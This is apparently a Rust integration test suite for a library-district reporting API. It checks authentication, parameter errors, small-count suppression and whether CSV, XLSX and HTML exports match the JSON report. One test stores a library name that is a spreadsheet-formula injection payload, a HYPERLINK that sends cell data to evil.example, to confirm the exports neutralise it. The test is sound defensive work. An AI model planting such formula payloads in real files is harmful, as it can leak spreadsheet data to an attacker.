//! The report API against a real server on loopback over a real SQLite file, with a
//! month of sessions synced through the real batch endpoint: who may read reports, the
//! answers to mistyped parameters, and that every format carries exactly the cells of
//! the JSON report (the XLSX read back with calamine, as a spreadsheet program would).
#![allow(clippy::unwrap_used)]

mod common;

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use chrono::{NaiveDate, NaiveDateTime, TimeZone, Utc};
use common::TestServer;
use jejak_domain::{Lang, LibraryCode};
use jejak_server::ServerStore;
use jejak_server::report::{
    Cell, ColumnKind, Letterhead, Report, ReportRequest, Table, load, parse_month,
};

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// A district with a synced October 2026: two libraries, three PCs, a letterhead, one
/// staff token and one device token. The server's clock reads early November.
struct District {
    server: TestServer,
    staff: String,
    device: String,
}

async fn district() -> District {
    let server = TestServer::start().await;
    // Move the server's clock to 2026-11-03 05:00 UTC: October is the last full month.
    let target = Utc.with_ymd_and_hms(2026, 11, 3, 5, 0, 0).unwrap();
    server.clock.advance(target - server.clock.now());
    let device = server
        .sync_simulated(
            &[
                ("dermaji", "pc-01", 40),
                ("dermaji", "pc-02", 25),
                ("karangsari", "pc-01", 30),
            ],
            7,
        )
        .await;
    server
        .store
        .set_letterhead(Some(Letterhead {
            lines: vec![
                "PEMERINTAH KABUPATEN BANYUMAS".to_string(),
                "DINAS ARSIP DAN PERPUSTAKAAN".to_string(),
            ],
            logo: None,
        }))
        .await
        .unwrap();
    let staff = server.store.add_staff("dinas").await.unwrap();
    District {
        staff: staff.expose().to_string(),
        device,
        server,
    }
}

/// Every report endpoint with its own parameters.
const ENDPOINTS: [&str; 5] = [
    "village?month=2026-10&library=dermaji",
    "district?month=2026-10",
    "quarter?quarter=2026-Q4",
    "year?year=2026",
    "ops",
];

struct Answer {
    status: u16,
    content_type: String,
    disposition: String,
    body: Vec<u8>,
}

impl Answer {
    fn json(&self) -> serde_json::Value {
        serde_json::from_slice(&self.body).unwrap()
    }

    fn report(&self) -> Report {
        assert_eq!(self.status, 200, "{}", String::from_utf8_lossy(&self.body));
        serde_json::from_slice(&self.body).unwrap()
    }

    fn text(&self) -> String {
        String::from_utf8(self.body.clone()).unwrap()
    }

    /// A problem document with this status and type; returns its detail.
    fn problem(&self, status: u16, kind: &str) -> String {
        assert_eq!(self.status, status, "{}", self.text());
        assert_eq!(self.content_type, "application/problem+json");
        let problem = self.json();
        assert_eq!(problem["type"], kind, "{problem}");
        assert_eq!(problem["status"], status);
        problem["detail"].as_str().unwrap().to_string()
    }
}

async fn get(server: &TestServer, token: Option<&str>, path_and_query: &str) -> Answer {
    let mut request = server
        .http
        .get(format!("{}/api/v1/reports/{path_and_query}", server.url));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.unwrap();
    let header = |name: &str| {
        response
            .headers()
            .get(name)
            .map(|v| v.to_str().unwrap().to_string())
            .unwrap_or_default()
    };
    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
    Answer {
        status: response.status().as_u16(),
        content_type,
        disposition,
        body: response.bytes().await.unwrap().to_vec(),
    }
}

fn with(endpoint: &str, extra: &str) -> String {
    let separator = if endpoint.contains('?') { '&' } else { '?' };
    format!("{endpoint}{separator}{extra}")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_staff_token_gets_every_report_in_every_format() {
    let d = district().await;
    for endpoint in ENDPOINTS {
        let json = get(&d.server, Some(&d.staff), endpoint).await;
        assert_eq!(json.status, 200, "{endpoint}: {}", json.text());
        assert_eq!(json.content_type, "application/json", "{endpoint}");
        assert!(
            json.disposition.starts_with("inline; filename=\""),
            "{endpoint}"
        );
        let report = json.report();
        assert!(!report.sections.is_empty(), "{endpoint}");
        assert_eq!(
            report.letterhead.lines[0], "PEMERINTAH KABUPATEN BANYUMAS",
            "{endpoint}: the store's letterhead is applied"
        );
        let expected = format!("inline; filename=\"{}.json\"", report.id);
        assert_eq!(json.disposition, expected);

        let csv = get(&d.server, Some(&d.staff), &with(endpoint, "format=csv")).await;
        assert_eq!(csv.status, 200, "{endpoint}");
        assert_eq!(csv.content_type, "text/csv; charset=utf-8");
        assert_eq!(
            csv.disposition,
            format!("attachment; filename=\"{}.csv\"", report.id)
        );
        // Every table, one after another, each under its title (the tables' own
        // contents are checked in the_csv_of_a_table_holds_the_json_rows).
        let records = parse_csv(&csv.text());
        for table in &report.sections {
            assert!(
                records.contains(&vec![table.title.get(Lang::Id).to_string()]),
                "{endpoint}: {}",
                table.id
            );
        }

        let xlsx = get(&d.server, Some(&d.staff), &with(endpoint, "format=xlsx")).await;
        assert_eq!(xlsx.status, 200, "{endpoint}");
        assert_eq!(xlsx.content_type, XLSX);
        assert_eq!(
            xlsx.disposition,
            format!("attachment; filename=\"{}.xlsx\"", report.id)
        );
        assert!(xlsx.body.starts_with(b"PK"), "a zip container");

        let html = get(&d.server, Some(&d.staff), &with(endpoint, "format=html")).await;
        assert_eq!(html.status, 200, "{endpoint}");
        assert_eq!(html.content_type, "text/html; charset=utf-8");
        assert!(html.disposition.starts_with("inline; filename=\""));
        let page = html.text();
        assert!(page.contains("PEMERINTAH KABUPATEN BANYUMAS"), "{endpoint}");
        assert!(page.contains(&report.title.id), "{endpoint}");

        let english = get(
            &d.server,
            Some(&d.staff),
            &with(endpoint, "lang=en&format=html"),
        )
        .await;
        assert!(english.text().contains(&report.title.en), "{endpoint}");
    }

    // The village report has the month's sessions of both of its PCs (65).
    let village = get(
        &d.server,
        Some(&d.staff),
        "village?month=2026-10&library=dermaji",
    )
    .await
    .report();
    let text = serde_json::to_string(&village).unwrap();
    assert!(text.contains("dermaji"), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_api_serves_what_report_load_builds() {
    let d = district().await;
    let month = parse_month("2026-10").unwrap();
    let cases = [
        (
            "district?month=2026-10",
            ReportRequest::District { month },
            Lang::Id,
        ),
        (
            "village?month=2026-10&library=karangsari&lang=en",
            ReportRequest::Village {
                month,
                library: LibraryCode::parse("karangsari").unwrap(),
            },
            Lang::En,
        ),
    ];
    for (endpoint, request, lang) in cases {
        let served = get(&d.server, Some(&d.staff), endpoint).await.report();
        let mut loaded = load(&d.server.store, &request, lang, d.server.clock.now())
            .await
            .unwrap();
        // Only the generation time differs between two calls.
        loaded.generated_at = served.generated_at;
        assert_eq!(served, loaded, "{endpoint}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reports_refuse_devices_strangers_and_mistyped_parameters() {
    let d = district().await;
    let s = &d.server;
    for endpoint in ENDPOINTS {
        let none = get(s, None, endpoint).await;
        none.problem(401, "unauthorized");
        let unknown = get(s, Some("jejak_staff_nope"), endpoint).await;
        unknown.problem(401, "unauthorized");
        let device = get(s, Some(&d.device), endpoint).await;
        let detail = device.problem(403, "forbidden");
        assert!(detail.contains("staff"), "{detail}");
        // Authentication comes before parameters: a stranger learns nothing.
        get(s, None, &with(endpoint, "format=pdf"))
            .await
            .problem(401, "unauthorized");
    }
    let staff = Some(d.staff.as_str());
    let bad = |query: &'static str, expect: &'static str| async move {
        let answer = get(s, staff, query).await;
        let detail = answer.problem(400, "invalid-parameter");
        assert!(detail.contains(expect), "{query}: {detail}");
    };
    bad(
        "district?month=2026-13",
        "month must be YYYY-MM, e.g. 2026-10",
    )
    .await;
    bad("district?month=Oktober", "YYYY-MM").await;
    bad("district", "month=2026-10").await;
    bad("village?month=2026-10", "library").await;
    bad(
        "village?month=2026-10&library=Not%20A%20Code!",
        "library code",
    )
    .await;
    bad("quarter?quarter=2026-Q5", "YYYY-Qn, e.g. 2026-Q4").await;
    bad("quarter", "quarter=2026-Q4").await;
    bad("year?year=26x", "YYYY").await;
    bad("district?month=2026-10&format=pdf", "json, csv, xlsx").await;
    bad("district?month=2026-10&lang=fr", "id or en").await;
    bad("district?month=2026-10&suppress_below=x", "e.g. 5").await;
    bad("district?month=2026-10&suppress_below=1", "from 2").await;
    bad(
        "district?month=2026-10&months=2026-11",
        "unknown parameter 'months'",
    )
    .await;
    bad("district?month=2026-10&month=2026-11", "twice").await;
    bad(
        "district?month=2026-10&format=csv&table=nope",
        "choose one of",
    )
    .await;
    bad("district?month=2026-10&table=matrix", "format=csv only").await;
    bad("ops?month=2026-10", "unknown parameter").await;

    let missing = get(s, staff, "village?month=2026-10&library=tidakada").await;
    let detail = missing.problem(404, "unknown-library");
    assert!(detail.contains("tidakada"), "{detail}");

    // A revoked staff token reads nothing more.
    s.store.revoke_staff("dinas").await.unwrap();
    get(s, staff, "district?month=2026-10")
        .await
        .problem(401, "token-revoked");
}

/// Small counts are hidden in every format once `suppress_below` is given.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn suppression_hides_small_counts_in_every_format() {
    let d = district().await;
    let endpoint = "village?month=2026-10&library=karangsari";
    let plain = get(&d.server, Some(&d.staff), endpoint).await.report();
    let suppressed = get(
        &d.server,
        Some(&d.staff),
        &with(endpoint, "suppress_below=5"),
    )
    .await
    .report();
    assert_eq!(plain.suppressed_below, None);
    assert_eq!(suppressed.suppressed_below, Some(5));
    let mut hidden = 0;
    for (table, shown) in plain.sections.iter().zip(&suppressed.sections) {
        for (column_index, column) in table.columns.iter().enumerate() {
            for (row, shown_row) in table.rows.iter().zip(&shown.rows) {
                let (cell, shown_cell) = (&row.cells[column_index], &shown_row.cells[column_index]);
                match cell {
                    Cell::Number(n)
                        if column.kind == ColumnKind::Count && *n >= 1.0 && *n < 5.0 =>
                    {
                        assert_eq!(shown_cell, &Cell::Text("<5".to_string()));
                        hidden += 1;
                    }
                    _ => assert_eq!(shown_cell, cell),
                }
            }
        }
    }
    assert!(hidden > 0, "30 sessions leave some cells under 5");

    let csv = get(
        &d.server,
        Some(&d.staff),
        &with(endpoint, "suppress_below=5&format=csv"),
    )
    .await
    .text();
    assert!(csv.contains("<5"));
    let html = get(
        &d.server,
        Some(&d.staff),
        &with(endpoint, "suppress_below=5&format=html"),
    )
    .await
    .text();
    assert!(
        html.contains("&#60;5"),
        "HTML escapes the < (askama: &#60;)"
    );
    let xlsx = get(
        &d.server,
        Some(&d.staff),
        &with(endpoint, "suppress_below=5&format=xlsx"),
    )
    .await;
    assert_xlsx_equals(&xlsx.body, &suppressed, Lang::Id);
}

/// The XLSX the API serves opens in a spreadsheet reader, and every cell of every sheet
/// is the JSON report's: numbers as numbers, texts as texts, dates as dates.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_xlsx_cells_are_the_json_cells() {
    let d = district().await;
    for endpoint in ENDPOINTS {
        for lang in [Lang::Id, Lang::En] {
            let json = get(
                &d.server,
                Some(&d.staff),
                &with(endpoint, &format!("lang={lang}")),
            )
            .await
            .report();
            let xlsx = get(
                &d.server,
                Some(&d.staff),
                &with(endpoint, &format!("lang={lang}&format=xlsx")),
            )
            .await;
            assert_eq!(xlsx.status, 200);
            assert_xlsx_equals(&xlsx.body, &json, lang);
        }
    }
}

/// The Excel serial number of an ISO date or date-time text.
fn excel_serial(text: &str) -> Option<f64> {
    let epoch = NaiveDate::from_ymd_opt(1899, 12, 30)?.and_hms_opt(0, 0, 0)?;
    let at = NaiveDate::parse_from_str(text, "%Y-%m-%d")
        .ok()
        .and_then(|d| d.and_hms_opt(0, 0, 0))
        .or_else(|| NaiveDateTime::parse_from_str(text, "%Y-%m-%d %H:%M:%S").ok())
        .or_else(|| NaiveDateTime::parse_from_str(text, "%Y-%m-%d %H:%M").ok())
        .or_else(|| NaiveDateTime::parse_from_str(text, "%Y-%m-%dT%H:%M:%S").ok())?;
    Some((at - epoch).num_milliseconds() as f64 / 86_400_000.0)
}

fn text_at(sheet: &calamine::Range<Data>, row: u32, col: u32) -> String {
    match sheet.get_value((row, col)) {
        Some(Data::String(s)) => s.clone(),
        other => panic!("row {row} col {col}: expected text, found {other:?}"),
    }
}

/// Follows the layout of report/xlsx.rs: letterhead lines, the title, the subtitles,
/// the table's title, the suppression note when suppressed, a blank row, the header,
/// the rows (a last note column when rows are flagged), a blank row and the footer.
fn assert_xlsx_equals(bytes: &[u8], report: &Report, lang: Lang) {
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    let names = workbook.sheet_names();
    assert_eq!(names.len(), report.sections.len(), "{}", report.id);
    for (name, table) in names.iter().zip(&report.sections) {
        let sheet = workbook.worksheet_range(name).unwrap();
        assert_sheet_equals(&sheet, report, table, lang);
    }
}

fn assert_sheet_equals(sheet: &calamine::Range<Data>, report: &Report, table: &Table, lang: Lang) {
    let mut row = 0u32;
    let mut top: Vec<String> = report.letterhead.lines.clone();
    top.push(report.title.get(lang).to_string());
    top.extend(report.subtitle.iter().map(|s| s.get(lang).to_string()));
    top.push(table.title.get(lang).to_string());
    for line in &top {
        assert_eq!(&text_at(sheet, row, 0), line, "{} row {row}", table.id);
        row += 1;
    }
    if report.suppressed_below.is_some() {
        assert!(text_at(sheet, row, 0).contains(&format!("<{}", 5)));
        row += 1;
    }
    assert!(
        matches!(sheet.get_value((row, 0)), None | Some(Data::Empty)),
        "a blank row before the header"
    );
    row += 1;
    let flags = table.rows.iter().any(|r| r.emphasis.is_some());
    let mut header: Vec<String> = table
        .columns
        .iter()
        .map(|c| c.label.get(lang).to_string())
        .collect();
    if flags {
        header.push(lang.pick("Catatan", "Note").to_string());
    }
    for (col, label) in header.iter().enumerate() {
        assert_eq!(
            &text_at(sheet, row, col as u32),
            label,
            "{} header",
            table.id
        );
    }
    for data in &table.rows {
        row += 1;
        for (col, (column, cell)) in table.columns.iter().zip(&data.cells).enumerate() {
            let found = sheet.get_value((row, col as u32));
            let at = format!("{} row {row} col {col} ({})", table.id, column.key);
            match cell {
                Cell::Number(n) => match found {
                    Some(Data::Float(f)) => assert_eq!(f, n, "{at}"),
                    Some(Data::Int(i)) => assert_eq!(*i as f64, *n, "{at}"),
                    other => panic!("{at}: expected the number {n}, found {other:?}"),
                },
                Cell::Text(text) if column.kind == ColumnKind::Date => match found {
                    Some(Data::DateTime(date)) => {
                        let expected = excel_serial(text).unwrap();
                        assert!((date.as_f64() - expected).abs() < 1e-6, "{at}: {text}");
                    }
                    Some(Data::String(s)) => assert_eq!(s, text, "{at}"),
                    other => panic!("{at}: expected the date {text}, found {other:?}"),
                },
                Cell::Text(text) => match found {
                    Some(Data::String(s)) => assert_eq!(s, text, "{at}"),
                    // An empty text is stored as an empty cell: the reader sees nothing.
                    None | Some(Data::Empty) if text.is_empty() => {}
                    other => panic!("{at}: expected the text {text:?}, found {other:?}"),
                },
                Cell::Empty => assert!(
                    matches!(found, None | Some(Data::Empty)),
                    "{at}: expected nothing, found {found:?}"
                ),
            }
        }
        if flags {
            let reason = data
                .emphasis
                .as_ref()
                .map(|f| f.reason.get(lang).to_string())
                .unwrap_or_default();
            let found = sheet.get_value((row, table.columns.len() as u32));
            match found {
                Some(Data::String(s)) => assert_eq!(s, &reason),
                None | Some(Data::Empty) => assert!(reason.is_empty()),
                other => panic!("{}: note {other:?}", table.id),
            }
        }
    }
    // The table's notes follow it after a blank row.
    if !table.notes.is_empty() {
        row += 1;
        for note in &table.notes {
            row += 1;
            assert_eq!(text_at(sheet, row, 0), note.get(lang), "{} note", table.id);
        }
    }
    // The last sheet carries the signature block (when the report has one) as plain
    // lines between the table and the footer.
    if let Some(signature) = &report.signature
        && report
            .sections
            .last()
            .is_some_and(|last| last.id == table.id)
    {
        row += 1;
        for line in signature.lines(lang) {
            row += 1;
            if !line.is_empty() {
                assert_eq!(text_at(sheet, row, 0), line, "{} signature", table.id);
            }
        }
    }
    row += 2;
    assert!(
        text_at(sheet, row, 0).starts_with(lang.pick("Dibuat", "Generated")),
        "{} footer",
        table.id
    );
}

/// RFC 4180 records separated by `delimiter`: quoted fields with doubled quotes, CRLF
/// line ends, after the UTF-8 byte-order mark every CSV file starts with. A blank line
/// is a record of one empty field.
fn parse_csv_with(text: &str, delimiter: char) -> Vec<Vec<String>> {
    let text = text
        .strip_prefix('\u{feff}')
        .unwrap_or_else(|| panic!("no byte-order mark: {text}"));
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, c) if c == delimiter => record.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && record.is_empty(),
        "the last record ends with CRLF"
    );
    records
}

fn parse_csv(text: &str) -> Vec<Vec<String>> {
    parse_csv_with(text, ',')
}

/// The CSV records of a table are its JSON rows as the report shows them: the labels
/// (a share's with `(%)`), the data rows, a blank line, the total rows; each number
/// rounded to its column's places, shares as percentages, with `decimal` as the point.
fn assert_csv_equals(records: &[Vec<String>], table: &Table, lang: Lang, decimal: char) {
    let flags = table.rows.iter().any(|r| r.emphasis.is_some());
    let mut header: Vec<String> = table
        .columns
        .iter()
        .map(|c| match c.kind {
            ColumnKind::Percent(_) if !c.label.get(lang).contains('%') => {
                format!("{} (%)", c.label.get(lang))
            }
            _ => c.label.get(lang).to_string(),
        })
        .collect();
    if flags {
        header.push(lang.pick("Catatan", "Note").to_string());
    }
    assert_eq!(records[0], header, "{}", table.id);
    let totals = table.rows.iter().filter(|r| r.is_total).count();
    let apart = usize::from(totals > 0 && totals < table.rows.len());
    assert_eq!(records.len(), 1 + table.rows.len() + apart, "{}", table.id);
    let data = table.rows.len() - totals;
    if apart == 1 {
        assert_eq!(
            records[1 + data],
            [""],
            "{}: a blank line before the total",
            table.id
        );
    }
    let shown = records[1..1 + data]
        .iter()
        .chain(&records[1 + data + apart..]);
    for (record, row) in shown.zip(&table.rows) {
        for ((field, cell), column) in record.iter().zip(&row.cells).zip(&table.columns) {
            match cell {
                Cell::Number(n) => {
                    let (value, places) = match column.kind {
                        ColumnKind::Count => (*n, 0),
                        ColumnKind::Decimal(p) => (*n, p),
                        ColumnKind::Percent(p) => (n * 100.0, p),
                        _ => (*n, if n.fract() == 0.0 { 0 } else { 2 }),
                    };
                    let (whole, fraction) = field.split_once(decimal).unwrap_or((field, ""));
                    assert_eq!(fraction.len(), usize::from(places), "{}: {field}", table.id);
                    assert!(!whole.contains(['.', ',']), "{}: {field}", table.id);
                    let read: f64 = field.replace(decimal, ".").parse().unwrap();
                    let scale = 10f64.powi(i32::from(places));
                    assert!(
                        (read - value).abs() <= 0.5 / scale + 1e-9,
                        "{}: {field} is not {value}",
                        table.id
                    );
                }
                Cell::Text(text) => assert_eq!(field, text),
                Cell::Empty => assert_eq!(field, ""),
            }
        }
        let width = row.cells.len() + usize::from(flags);
        assert_eq!(record.len(), width, "{}", table.id);
    }
}

/// `table=` gives one table's CSV, and it holds the JSON rows as the report shows them;
/// without it the tables come one after another, each under its title. `csv_dialect=id`
/// gives the same with `;` and decimal commas.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_csv_of_a_table_holds_the_json_rows() {
    let d = district().await;
    for endpoint in [
        "village?month=2026-10&library=dermaji",
        "district?month=2026-10",
        "quarter?quarter=2026-Q4",
    ] {
        for (lang, dialect, delimiter, decimal) in [
            (Lang::Id, "standard", ',', '.'),
            (Lang::En, "standard", ',', '.'),
            (Lang::Id, "id", ';', ','),
        ] {
            let report = get(
                &d.server,
                Some(&d.staff),
                &with(endpoint, &format!("lang={lang}")),
            )
            .await
            .report();
            let mut all = Vec::new();
            for table in &report.sections {
                let answer = get(
                    &d.server,
                    Some(&d.staff),
                    &with(
                        endpoint,
                        &format!(
                            "lang={lang}&format=csv&csv_dialect={dialect}&table={}",
                            table.id
                        ),
                    ),
                )
                .await;
                assert_eq!(answer.status, 200, "{}", answer.text());
                assert_eq!(
                    answer.disposition,
                    format!("attachment; filename=\"{}-{}.csv\"", report.id, table.id)
                );
                let records = parse_csv_with(&answer.text(), delimiter);
                assert_csv_equals(&records, table, lang, decimal);
                all.push(vec![table.title.get(lang).to_string()]);
                all.extend(records);
                // The whole report's file has the table's notes under it; the single
                // table's file (for machines) does not.
                all.extend(table.notes.iter().map(|n| vec![n.get(lang).to_string()]));
                all.push(vec![String::new()]);
            }
            all.pop();
            // The whole report ends with its signature block, a line per record.
            if let Some(signature) = &report.signature {
                all.push(vec![String::new()]);
                all.extend(signature.lines(lang).into_iter().map(|line| vec![line]));
            }
            let every = get(
                &d.server,
                Some(&d.staff),
                &with(
                    endpoint,
                    &format!("lang={lang}&format=csv&csv_dialect={dialect}"),
                ),
            )
            .await
            .text();
            assert_eq!(parse_csv_with(&every, delimiter), all, "{endpoint}");
        }
    }
    // A dialect that is not one, or one for another format, is refused and says why.
    for (query, expected) in [
        ("format=csv&csv_dialect=semicolon", "choose standard"),
        ("format=xlsx&csv_dialect=id", "format=csv only"),
    ] {
        let answer = get(
            &d.server,
            Some(&d.staff),
            &with("district?month=2026-10", query),
        )
        .await;
        assert!(answer.problem(400, "invalid-parameter").contains(expected));
    }
}

/// A library whose name is a spreadsheet formula comes out as plain text: in CSV with a
/// `'` in front (OWASP's rule), in XLSX as a text cell, never a formula.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_library_named_like_a_formula_stays_text_in_csv_and_xlsx() {
    const EVIL: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let d = district().await;
    d.server
        .store
        .add_library(
            &LibraryCode::parse("jahat").unwrap(),
            EVIL,
            jejak_domain::Zone::Wib,
        )
        .await
        .unwrap();
    let csv = get(
        &d.server,
        Some(&d.staff),
        "district?month=2026-10&format=csv&table=libraries",
    )
    .await;
    assert_eq!(csv.status, 200, "{}", csv.text());
    let records = parse_csv(&csv.text());
    let names: Vec<&str> = records.iter().map(|r| r[0].as_str()).collect();
    assert!(names.contains(&format!("'{EVIL}").as_str()), "{names:?}");
    assert!(!names.iter().any(|n| n.starts_with('=')), "{names:?}");

    let xlsx = get(
        &d.server,
        Some(&d.staff),
        "district?month=2026-10&format=xlsx",
    )
    .await;
    assert_eq!(xlsx.status, 200);
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.body)).unwrap();
    let found = book.worksheets().into_iter().any(|(_, sheet)| {
        sheet
            .used_cells()
            .any(|(_, _, cell)| matches!(cell, Data::String(s) if s == EVIL))
    });
    assert!(found, "the name is a text cell, exactly as given");
    for (name, _) in book.worksheets() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().next().is_none(),
            "no formula in {name}"
        );
    }
}

/// Every report of the registry can be downloaded from the dashboard with its own
/// parameters, and the file is the API's file; a mistyped parameter gets a page that
/// says what to write, an unknown report a 404.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_downloads_any_report_of_the_registry_as_the_api_serves_it() {
    let d = district().await;
    let browser = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let signed_in = browser
        .post(format!("{}/dashboard/login", d.server.url))
        .form(&[("token", d.staff.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(signed_in.status().as_u16(), 303);
    let cookie = signed_in.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let download = |path_and_query: String| {
        let request = browser
            .get(format!(
                "{}/dashboard/download/{path_and_query}",
                d.server.url
            ))
            .header("Cookie", cookie.clone());
        async move {
            let response = request.send().await.unwrap();
            let status = response.status().as_u16();
            (status, response.text().await.unwrap())
        }
    };

    for (name, query) in [("quarter", "quarter=2026-Q4"), ("year", "year=2026")] {
        let (status, file) = download(format!("{name}/csv?{query}")).await;
        assert_eq!(status, 200, "{name}: {file}");
        let api = get(
            &d.server,
            Some(&d.staff),
            &format!("{name}?{query}&format=csv"),
        )
        .await;
        assert_eq!(file, api.text(), "{name}");
        assert!(file.contains("Sesi per bulan"), "{name}: {file}");
    }

    let (status, page) = download("year/csv?year=20x6&lang=en".into()).await;
    assert_eq!(status, 400, "{page}");
    assert!(
        page.contains("Parameter &#39;year&#39; is missing or not valid; e.g. ?year=2026"),
        "{page}"
    );
    let (status, _) = download("quarter/csv".into()).await;
    assert_eq!(status, 400);
    let (status, _) = download("nope/csv?year=2026".into()).await;
    assert_eq!(status, 404);
}
